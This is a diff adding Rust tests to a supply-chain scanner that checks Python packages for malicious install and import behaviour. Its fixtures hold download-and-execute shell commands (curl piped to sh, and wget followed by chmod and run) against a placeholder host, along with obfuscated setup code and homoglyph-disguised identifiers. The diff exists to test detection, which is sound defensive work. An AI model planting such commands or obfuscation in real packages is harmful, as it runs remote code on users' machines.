@@ -632,3 +632,44 @@ fn reports_carry_the_capabilities_and_compare_releases() {
     let json = serde_json::to_value(&new).unwrap();
     assert!(json["capabilities"].as_array().is_some_and(|a| !a.is_empty()), "{json}");
 }
+
+#[test]
+fn python_started_at_import_and_protected_install_code_weigh_more() {
+    let meta = ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n");
+    // A version lookup through git at import is common; a second interpreter started then is not.
+    let git = "import subprocess\nREV = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n";
+    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", git), meta]), "demo-1.0-py3-none-any.whl");
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    let spawn = "import subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'import demo.agent'], close_fds=True)\n";
+    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", spawn), meta]), "demo-1.0-py3-none-any.whl");
+    let f = r.findings.iter().find(|f| f.rule == "py-import-process").expect("found");
+    assert_eq!(f.severity, palisade_scan::Severity::High, "{f:#?}");
+    assert_eq!(r.verdict, Verdict::Suspicious);
+    // PyArmor-protected code in setup.py runs unread at install.
+    let setup = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n";
+    let r = scanner().scan_bytes(&sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]), "demo_tool-1.0.tar.gz");
+    let f = r.findings.iter().find(|f| f.rule == "obf-pyarmor").expect("found");
+    assert_eq!(f.severity, palisade_scan::Severity::High, "{f:#?}");
+    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn shell_download_and_run_and_mathematical_names() {
+    let meta = ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n");
+    let lib = "import subprocess\ndef setup_tool(f):\n    subprocess.Popen(f'cd /tmp && wget -q https://example.invalid/t -O {f} && chmod +x {f} && ./{f}', shell=True)\n";
+    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", "X = 1\n"), ("demo/tool.py", lib), meta]), "demo-1.0-py3-none-any.whl");
+    assert!(rules_of(&r).contains(&"py-shell-download-exec"), "{:#?}", r.findings);
+    let setup = "import os\nfrom setuptools import setup\nos.system('curl -s https://example.invalid/i.sh | sh')\nsetup(name='demo')\n";
+    let r = scanner().scan_bytes(&sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]), "demo_tool-1.0.tar.gz");
+    let f = r.findings.iter().find(|f| f.rule == "py-shell-download-exec").expect("found");
+    assert!(f.decisive, "{f:#?}");
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Names in mathematical letters that Python folds to `setattr` and `__import__`.
+    let hidden = "𝘴𝙚𝙩𝗮𝘁𝘵𝙧(obj, 'x', __𝙞𝗺𝘱𝗼𝗿𝙩__('base64').b64decode(b'eA=='))\n";
+    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", hidden), meta]), "demo-1.0-py3-none-any.whl");
+    assert!(rules_of(&r).contains(&"py-unicode-identifiers"), "{:#?}", r.findings);
+    // A formula in a comment or a docstring is prose.
+    let prose = "# the mean 𝑥̄ of 𝑥𝑖\ndef mean(xs):\n    \"\"\"Returns 𝜇 = Σ𝑥 / 𝑛.\"\"\"\n    return sum(xs) / len(xs)\n";
+    let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", prose), meta]), "demo-1.0-py3-none-any.whl");
+    assert!(!rules_of(&r).contains(&"py-unicode-identifiers"), "{:#?}", r.findings);
+}
